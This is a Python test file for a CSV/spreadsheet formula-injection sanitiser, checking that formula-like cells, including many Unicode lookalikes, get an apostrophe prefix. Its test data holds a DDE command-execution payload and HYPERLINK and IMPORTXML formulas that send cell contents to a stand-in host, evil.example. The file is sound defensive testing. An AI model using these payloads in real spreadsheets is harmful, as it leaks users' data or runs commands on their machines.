"""Text for spreadsheets: what begins like a formula is made text, in whatever form it begins."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from psg.web.sheets import FORMULA, harmless, is_taken_for_a_formula

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "＝1", "＋1", "－1", "＠1",
    " =1", "\u00a0=1", "\u3000＝1", "\ufeff=1", "\u200b=1", "\u202e=1", "\u2066 \u200b+1", "\u00ad-1",
    "﹦1", "﹢1", "﹣1", "﹫1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)',
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "+44 7700 900000", "-", "=", "\t", "\r", "\n", "\x00",
]  # fmt: skip
WORDS = [
    "",
    "Jo",
    "1+1",
    "a=b",
    "jo@psg.example",
    "’=1",
    "'=1",
    "12 Bittern Drove",
    "−1",
    "–1",
    "*",
    "   ",
    "\u200b",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless([text]) == [f"'{text}"]


@pytest.mark.parametrize("text", WORDS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless([text]) == [text]


@given(st.text(st.sampled_from([*FORMULA, " ", ",", '"', ";", "\u200b", "a"]) | st.characters(codec="utf-8")))
def test_no_text_comes_back_from_a_file_as_a_formula(text: str) -> None:
    held = StringIO(newline="")
    csv.writer(held).writerow(harmless([text, "b"]))
    ((cell, other),) = csv.reader(StringIO(held.getvalue(), newline=""))
    assert not is_taken_for_a_formula(cell)
    assert cell.removeprefix("'") == text.removeprefix("'")
    assert other == "b"
